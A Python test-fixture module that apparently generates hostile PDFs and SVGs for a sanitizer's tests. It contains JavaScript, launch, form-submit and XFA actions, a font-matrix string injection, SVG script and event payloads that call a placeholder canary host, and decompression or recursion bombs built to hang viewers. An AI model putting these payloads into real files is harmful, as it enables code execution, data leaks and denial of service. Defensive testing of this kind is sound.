"""PDFs and drawings that want to run, to call out or to hang; each takes the address of a canary."""

from tests.submissions import pdfs, samples

HEAD = [b"<</Type/Catalog/Pages 2 0 R%s>>", b"<</Type/Pages/Kids[3 0 R]/Count 1>>"]
PAGE = b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 612 792]%s>>"
REFUSED = {"cut-off.pdf", "nested.pdf"}
"""What the door keeps out, with a sentence."""
LOUD = "fetch('{canary}/script');alert(1);app.launchURL('{canary}/url',true);"


def pdf(catalogue: str = "", page: str = "", *more: bytes, size: str = "") -> bytes:
    """One page; `more` are the objects from the fourth on."""
    made = PAGE.replace(b"[0 0 612 792]", size.encode()) if size else PAGE
    return samples.pdf_of([HEAD[0] % catalogue.encode(), HEAD[1], made % page.encode(), *more])


def stream(content: bytes, extra: str = "") -> bytes:
    return b"<</Length %d%s>>\nstream\n%s\nendstream" % (len(content), extra.encode(), content)


def pdfs_that_act(canary: str) -> dict[str, bytes]:
    """PDFs that want something to happen."""
    loud = LOUD.format(canary=canary).replace("(", "\\(").replace(")", "\\)")
    act = f"<</S/JavaScript/JS({loud})>>"
    uri = f"<</S/URI/URI({canary}/uri)>>"
    words = stream(b"BT /F1 20 Tf 60 700 Td (Still here) Tj ET")
    font = "/Contents 4 0 R/Resources<</Font<</F1 5 0 R>>>>"
    plain = b"<</Type/Font/Subtype/Type1/BaseFont/Helvetica>>"
    xfa = (
        f'<xdp:xdp xmlns:xdp="http://ns.adobe.com/xdp/"><template><subform><event activity="initialize"><script '
        f"contentType='application/x-javascript'>{LOUD.format(canary=canary)}</script></event></subform></template></xdp:xdp>"
    ).encode()
    # A matrix that once was pasted into a function: a string ends it.
    matrix = f"/FontMatrix[1 2 3 4 5 (0\\); {loud}//)]"
    broken_font = (
        f"<</Type/Font/Subtype/Type1/BaseFont/Odd{matrix}/FontDescriptor 6 0 R/FirstChar 0/LastChar 255>>"
    )
    return {
        "opens.pdf": pdf(f"/OpenAction {act}", font, words, plain),
        "opens-address.pdf": pdf(f"/OpenAction {uri}", font, words, plain),
        "names.pdf": pdf(f"/Names<</JavaScript<</Names[(a) {act}]>>>>", font, words, plain),
        "page-opens.pdf": pdf("", f"/AA<</O {act}/C {uri}>>{font}", words, plain),
        "link.pdf": pdf(
            "",
            f"/Annots[<</Type/Annot/Subtype/Link/Rect[0 0 612 792]/A {uri}/PA {uri}>>]{font}",
            words,
            plain,
        ),
        "submits.pdf": pdf(
            f"/OpenAction<</S/SubmitForm/F<</FS/URL/F({canary}/form)>>>>/AcroForm<</Fields[]>>",
            font,
            words,
            plain,
        ),
        "launches.pdf": pdf(f"/OpenAction<</S/Launch/F({canary}/launch)>>", font, words, plain),
        "elsewhere.pdf": pdf(f"/OpenAction<</S/GoToR/F({canary}/other.pdf)/D[0/Fit]>>", font, words, plain),
        "form.pdf": pdf("/AcroForm<</XFA 6 0 R/Fields[]>>", font, words, plain, stream(xfa)),
        "font.pdf": pdf(
            "",
            font,
            words,
            broken_font.encode(),
            f"<</Type/FontDescriptor{matrix}/FontFile 7 0 R>>".encode(),
            stream(b"not a font"),
        ),
        "picture-elsewhere.pdf": pdf(
            "",
            "/Contents 4 0 R/Resources<</XObject<</I 5 0 R>>>>",
            stream(b"q 600 0 0 700 0 0 cm /I Do Q"),
            stream(
                b"",
                "/Type/XObject/Subtype/Image/Width 9/Height 9/BitsPerComponent 8/ColorSpace/DeviceRGB"
                f"/F<</FS/URL/F({canary}/picture)>>",
            ),
        ),
        "video.pdf": pdf(
            "",
            f"/Annots[<</Type/Annot/Subtype/RichMedia/Rect[0 0 99 99]/RichMediaContent<</Assets<</Names[(a)<</FS/URL/F({canary}/video)>>]>>>>>>]{font}",  # noqa: E501
            words,
            plain,
        ),
    }


def pdfs_that_hang() -> dict[str, bytes]:
    """PDFs that are too large, endless or cut off, and still let in."""
    draw = "/Contents 4 0 R/Resources<</XObject<</X 5 0 R>>>>"
    again = "/Type/XObject/Subtype/Form/BBox[0 0 600 700]/Resources<</XObject<</X 5 0 R>>>>"
    # Each form draws the next one ten times: ten to the eighth.
    nested = [
        stream(
            b"/X Do " * 10,
            f"/Type/XObject/Subtype/Form/BBox[0 0 600 700]/Resources<</XObject<</X {n} 0 R>>>>",
        )
        for n in range(6, 14)
    ]
    tiles = stream(
        b"0 0 1 1 re f",
        "/Type/Pattern/PatternType 1/PaintType 1/TilingType 1/BBox[0 0 1 1]/XStep 0.001/YStep 0.001/Resources<<>>",
    )
    return {
        "huge.pdf": pdf("", size="[0 0 14400 14400]"),
        "ribbon.pdf": pdf("", size="[0 0 3 14400]"),
        "in-a-circle.pdf": pdf("", draw, stream(b"/X Do"), stream(b"/X Do", again)),
        "nested.pdf": pdf(
            "",
            draw,
            stream(b"/X Do"),
            *nested,
            stream(b"0 0 9 9 re f", "/Type/XObject/Subtype/Form/BBox[0 0 9 9]"),
        ),
        "tiles.pdf": pdf(
            "",
            "/Contents 4 0 R/Resources<</Pattern<</P 5 0 R>>>>",
            stream(b"/Pattern cs /P scn 0 0 600 700 re f"),
            tiles,
        ),
        "cut-off.pdf": pdfs.of_text(3)[:-900],
    }


def drawings(canary: str) -> dict[str, bytes]:
    """Drawings that want something to happen, or to be drawn for ever."""
    loud = f"fetch('{canary}/script');alert(1)"
    filters = '<feGaussianBlur stdDeviation="500"/>' * 50
    bodies = {
        "script.svg": f"<script>{loud}</script>",
        "script-elsewhere.svg": f'<script href="{canary}/a.js"/>',
        "loads.svg": f'<rect width="9" height="9" onload="{loud}" onclick="{loud}"/>',
        "animated.svg": f'<rect width="9" height="9"><set attributeName="x" to="1" onbegin="{loud}"/></rect>',
        "picture.svg": f'<image href="{canary}/picture.png" width="99" height="99"/>',
        "filter.svg": f'<filter id="f"><feImage href="{canary}/filter.png"/></filter><rect width="99" height="79" filter="url(#f)"/>',  # noqa: E501
        "uses.svg": f'<use href="{canary}/other.svg#a"/>',
        "styled.svg": f'<style>@import url("{canary}/style.css"); @font-face {{ font-family: x; src: url("{canary}/font.woff2") }} text {{ font-family: x; fill: url("{canary}/fill.svg#a") }}</style><text y="20">Words</text>',  # noqa: E501
        "foreign.svg": f'<foreignObject width="99" height="79"><iframe xmlns="http://www.w3.org/1999/xhtml" src="{canary}/frame"></iframe><img xmlns="http://www.w3.org/1999/xhtml" src="{canary}/img" onerror="{loud}"/><meta xmlns="http://www.w3.org/1999/xhtml" http-equiv="refresh" content="0;url={canary}/meta"/></foreignObject>',  # noqa: E501
        "link.svg": f'<a href="{canary}/a" ping="{canary}/ping"><rect width="120" height="80"/></a>',
        "pattern.svg": f'<pattern id="p" href="{canary}/p.svg#p" width="9" height="9"/><rect width="99" height="79" fill="url(#p)"/>',  # noqa: E501
        "blurred.svg": f'<filter id="f">{filters}</filter><rect width="99" height="79" filter="url(#f)"/>',
        "large.svg": '<rect width="10" height="10"/>',
    }
    made = {name: samples.svg(body.encode()) for name, body in bodies.items()}
    made["large.svg"] = made["large.svg"].replace(
        b'width="120" height="80"', b'width="900000" height="900000"'
    )
    start = f'<?xml version="1.0"?><?xml-stylesheet href="{canary}/sheet.xsl" type="text/xsl"?>'.encode()
    made["sheet.svg"] = start + samples.svg().partition(b"?>")[2]
    return made
